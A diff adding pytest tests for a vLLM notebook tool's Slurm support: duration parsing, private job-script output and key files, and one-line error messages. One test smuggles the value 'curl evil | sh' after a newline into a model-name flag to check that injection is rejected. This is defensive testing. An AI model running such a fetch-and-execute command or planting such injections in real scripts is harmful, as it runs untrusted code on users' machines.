@@ -263,7 +263,7 @@ def test_magic_lines_reach_our_parser_as_typed():
     assert _argv("vllm_load", "{{literal}} $country", ns) == ["{literal}", "$country"]
     with pytest.raises(UsageError, match="would read as a flag"):
         _argv("vllm_unload", "--name {flag}", ns)
-    for name in ("vllm_load", "generate", "chat", "vllm_unload", "vllm_sleep", "vllm_servers", "vllm_status"):
+    for name in ("vllm_load", "generate", "chat", "vllm_unload", "vllm_sleep", "vllm_servers", "vllm_jobs", "vllm_status"):
         assert getattr(getattr(VllmMagics, name), MAGIC_NO_VAR_EXPAND_ATTR, False), name
 
 
@@ -521,3 +521,44 @@ def test_absurd_n_is_refused():
     with pytest.raises(UsageError, match="at most 1024, not 1,000,000,000"):
         check_numbers({"n": 1_000_000_000})
     check_numbers({"n": 8, "temperature": 0.5, "max_tokens": 16})
+
+
+@pytest.mark.parametrize("text,seconds", [("5", 300), ("1:30", 90), ("2:00:00", 7200), ("1-02:00:00", 93600),
+                                          ("1-2", 93600), ("UNLIMITED", None), ("", None), ("0:45", 45)])
+def test_slurm_durations(text, seconds):
+    from vllm_notebook.cluster.slurm import duration_s
+
+    assert duration_s(text) == seconds
+
+
+def test_a_job_script_keeps_its_key_and_output_private(tmp_path, monkeypatch):
+    from vllm_notebook.server import slurm_job
+
+    monkeypatch.setenv("VLLM_NOTEBOOK_CACHE", str(tmp_path))
+    rec = slurm_job.JobRecord(id="x-1", name="x", model="org/m", flags=["--max-model-len", "512"],
+                              options=["-t", "5"])
+    text = slurm_job.script_text(rec, job_name="vnb-x")
+    assert f"#SBATCH --output={tmp_path}/jobs/x-1/slurm-%j.out" in text
+    assert f"--api-key-file {tmp_path}/jobs/x-1/api.key" in text and "serve org/m --max-model-len 512" in text
+    assert "#SBATCH --nodes=1" in text and "HF_HUB_OFFLINE=1" in text
+    assert os.stat(tmp_path / "jobs").st_mode & 0o077 == 0
+    rec.flags = ["--served-model-name", "m\ncurl evil | sh"]
+    with pytest.raises(UsageError, match="one line"):
+        slurm_job.script_text(rec, job_name="vnb-x")
+
+
+@pytest.mark.parametrize("argv,match", [
+    (["m", "--chain", "2"], "go with --slurm"),
+    (["m", "--no-wait"], "go with --slurm"),
+    (["m", "--slurm", "-t 5", "--server"], "drop --server"),
+    (["m", "--slurm", "-t 5", "--port", "8000"], "drop --server"),
+    (["m", "--slurm", "-t '5"], "No closing quotation"),
+    (["m", "--slurm", "-t5", "--server"], "drop --server"),  # a value without a space still reaches --slurm
+    (["m", "--slurm", "-t 5", "--api-key", "k"], "--api-key-file"),
+])
+def test_slurm_load_mistakes_are_one_line(argv, match):
+    from vllm_notebook.loader import load_from_argv
+
+    with pytest.raises(UsageError, match=match) as err:
+        load_from_argv(argv)
+    assert "\n" not in str(err.value)
